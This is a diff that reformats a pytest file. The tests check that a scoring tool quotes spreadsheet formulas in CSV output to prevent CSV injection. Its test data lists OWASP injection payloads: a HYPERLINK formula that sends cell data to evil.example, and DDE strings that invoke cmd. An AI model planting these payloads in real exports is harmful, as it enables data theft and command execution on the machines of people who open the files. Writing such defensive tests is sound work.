@@ -6,6 +6,7 @@ on CSV injection: a leading ``'``) unless ``--raw-csv-cells`` is given; a plain 
 Parquet column that a CSV file cannot hold (nested, binary) is refused with one line before
 anything is scored.
 """
+
 from __future__ import annotations
 
 import csv
@@ -19,14 +20,29 @@ from .scoring_support import error_lines, read_rows
 
 pytest_plugins = ("tests.scoring_support",)  # the score fixture
 
-FIELDS = {"age": 19, "sex": "female", "bmi": 27.9, "children": 0, "smoker": "yes",
-          "region": "southwest"}
+FIELDS = {
+    "age": 19,
+    "sex": "female",
+    "bmi": 27.9,
+    "children": 0,
+    "smoker": "yes",
+    "region": "southwest",
+}
 
 # From OWASP's "CSV Injection" page and its variants: each starts a formula in Excel, LibreOffice
 # or Google Sheets (a tab or a carriage return is stripped first).
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|'/C calc'!A0",
-            "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "=1",
-            "-", "+", "@"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1",
+    "-",
+    "+",
+    "@",
+]
 NOT_FORMULAS = ["-1.5", "+19", "-0", "1e5", "-2.5e-3", ".5", "P-001", "a=b", "", " =1"]
 
 
@@ -50,7 +66,8 @@ def ids_written(path) -> list[str]:
 
 @pytest.mark.parametrize("source", ["csv", "jsonl", "parquet"])
 def test_a_formula_in_a_text_cell_is_quoted_in_a_csv_output_and_numbers_are_left_alone(
-        score, tmp_path, source):
+    score, tmp_path, source
+):
     write_input(tmp_path / f"in.{source}", FORMULAS + NOT_FORMULAS, source)
     status, _, err = score(tmp_path / f"in.{source}", "-o", tmp_path / "out.csv")
     assert status == 0, err
@@ -60,10 +77,12 @@ def test_a_formula_in_a_text_cell_is_quoted_in_a_csv_output_and_numbers_are_left
     assert all(float(r["estimate"]) > 0 for r in rows)  # numbers stay numbers
 
 
-@pytest.mark.parametrize("source, rejects", [("csv", None), ("csv", "rejects.csv"),
-                                             ("parquet", None)])
-def test_a_formula_in_a_rejected_row_is_quoted_in_a_csv_rejects_file(score, tmp_path, source,
-                                                                     rejects):
+@pytest.mark.parametrize(
+    "source, rejects", [("csv", None), ("csv", "rejects.csv"), ("parquet", None)]
+)
+def test_a_formula_in_a_rejected_row_is_quoted_in_a_csv_rejects_file(
+    score, tmp_path, source, rejects
+):
     write_input(tmp_path / f"in.{source}", FORMULAS, source, bad=True)
     args = ["--rejects", tmp_path / rejects] if rejects else []
     status, _, _ = score(tmp_path / f"in.{source}", "-o", tmp_path / "out.csv", *args)
@@ -72,7 +91,8 @@ def test_a_formula_in_a_rejected_row_is_quoted_in_a_csv_rejects_file(score, tmp_
 
 
 def test_text_that_is_no_record_and_a_key_named_as_a_field_are_quoted_in_csv_rejects(
-        score, tmp_path):
+    score, tmp_path
+):
     first = dict(FIELDS, id=0)
     lines = [json.dumps(first), "=cmd|'/C calc'!A0", json.dumps({**first, "@SUM(A1)": 1})]
     (tmp_path / "in.jsonl").write_text("\n".join(lines) + "\n")
@@ -80,12 +100,15 @@ def test_text_that_is_no_record_and_a_key_named_as_a_field_are_quoted_in_csv_rej
     assert status == 1
     rejects = read_rows(tmp_path / "out.rejects.csv")
     assert [(r["line"], r["fields"], r["record"][:3]) for r in rejects] == [
-        ("2", "", "'=c"), ("3", "'@SUM(A1)", '{"a')]
+        ("2", "", "'=c"),
+        ("3", "'@SUM(A1)", '{"a'),
+    ]
 
 
 def test_a_header_name_that_is_a_formula_is_quoted_too(score, tmp_path):
-    (tmp_path / "in.csv").write_text("=cmd|'/C calc'!A0,age,sex,bmi,children,smoker,region\n"
-                                     "x,19,female,27.9,0,yes,southwest\n")
+    (tmp_path / "in.csv").write_text(
+        "=cmd|'/C calc'!A0,age,sex,bmi,children,smoker,region\nx,19,female,27.9,0,yes,southwest\n"
+    )
     status, _, _ = score(tmp_path / "in.csv", "-o", tmp_path / "out.csv")
     assert status == 0
     header = (tmp_path / "out.csv").read_text().splitlines()[0]
@@ -104,24 +127,27 @@ def test_raw_csv_cells_writes_every_cell_exactly_as_read(score, tmp_path):
     write_input(tmp_path / "in.csv", FORMULAS, "csv", bad=False)
     write_input(tmp_path / "bad.csv", FORMULAS, "csv", bad=True)
     for source in ("in", "bad"):
-        score(tmp_path / f"{source}.csv", "-o", tmp_path / f"{source}.out.csv",
-              "--raw-csv-cells")
+        score(tmp_path / f"{source}.csv", "-o", tmp_path / f"{source}.out.csv", "--raw-csv-cells")
     assert ids_written(tmp_path / "in.out.csv") == FORMULAS
     assert ids_written(tmp_path / "bad.out.rejects.csv") == FORMULAS
 
 
 UNWRITABLE = {
-    "struct": pa.array([{"a": 1}]), "list": pa.array([[1, 2]]),
+    "struct": pa.array([{"a": 1}]),
+    "list": pa.array([[1, 2]]),
     "map": pa.array([[("a", 1)]], pa.map_(pa.string(), pa.int64())),
-    "binary": pa.array([b"\x00\xff"]), "large_binary": pa.array([b"ok"], pa.large_binary()),
+    "binary": pa.array([b"\x00\xff"]),
+    "large_binary": pa.array([b"ok"], pa.large_binary()),
 }
 
 
 @pytest.mark.parametrize("kind", UNWRITABLE)
-@pytest.mark.parametrize("where", [["-o", "out.csv"],
-                                   ["-o", "out.parquet", "--rejects", "rejects.csv"]])
+@pytest.mark.parametrize(
+    "where", [["-o", "out.csv"], ["-o", "out.parquet", "--rejects", "rejects.csv"]]
+)
 def test_a_parquet_column_a_csv_file_cannot_hold_is_one_error_line_before_scoring(
-        score, tmp_path, monkeypatch, kind, where):
+    score, tmp_path, monkeypatch, kind, where
+):
     table = pa.table({**{k: [v] for k, v in FIELDS.items()}, "extra": UNWRITABLE[kind]})
     pq.write_table(table, tmp_path / "in.parquet")
     monkeypatch.chdir(tmp_path)
@@ -132,7 +158,8 @@ def test_a_parquet_column_a_csv_file_cannot_hold_is_one_error_line_before_scorin
     assert error_lines(err) == [
         f"Error: in.parquet has a column a CSV file cannot hold: 'extra' ({stored}); write the "
         f"{what} as Parquet or JSON lines (--format, --rejects), or leave the column out of the "
-        "input"]
+        "input"
+    ]
     assert '"start"' not in err  # refused before the model is loaded
     assert sorted(p.name for p in tmp_path.iterdir()) == ["in.parquet"]
 
